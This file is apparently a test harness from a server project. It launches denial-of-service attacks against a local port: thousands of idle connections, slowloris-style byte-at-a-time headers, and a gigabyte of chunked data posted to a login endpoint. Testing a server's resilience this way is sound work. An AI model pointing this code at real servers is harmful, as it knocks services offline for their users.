"""One attack on a port, in a process of its own, until it is killed: `python -m tests.attacks.stranger idle 8710`."""

import asyncio
import contextlib
import resource
import sys

IDLE = 2000
SLOW = 500
BODIES = 4
PIECE = b"10000\r\n" + b"x" * 65536 + b"\r\n"


async def idle(port: int) -> None:
    """Connect and say nothing; once closed, connect again."""
    with contextlib.suppress(OSError):
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        with contextlib.closing(writer):
            await reader.read()


async def slow(port: int) -> None:
    """Send a head that never ends, a byte at a time."""
    with contextlib.suppress(OSError):
        _, writer = await asyncio.open_connection("127.0.0.1", port)
        with contextlib.closing(writer):
            writer.write(b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ")
            while not writer.transport.is_closing():
                writer.write(b"x")
                await asyncio.sleep(0.5)


async def body(port: int) -> None:
    """Send a gigabyte where a name and a password are asked for."""
    with contextlib.suppress(OSError):
        _, writer = await asyncio.open_connection("127.0.0.1", port)
        with contextlib.closing(writer):
            writer.write(
                b"POST /api/session HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                b"Transfer-Encoding: chunked\r\n\r\n"
            )
            for _ in range(16_384):
                writer.write(PIECE)
                await writer.drain()


ATTACKS = {"idle": (idle, IDLE), "slow": (slow, SLOW), "body": (body, BODIES)}


async def attack(name: str, port: int) -> None:
    """Keep so many of one kind going."""
    one, count = ATTACKS[name]

    async def again() -> None:
        while True:
            await one(port)
            await asyncio.sleep(0.5)

    await asyncio.gather(*(again() for _ in range(count)))


if __name__ == "__main__":
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(attack(sys.argv[1], int(sys.argv[2])))
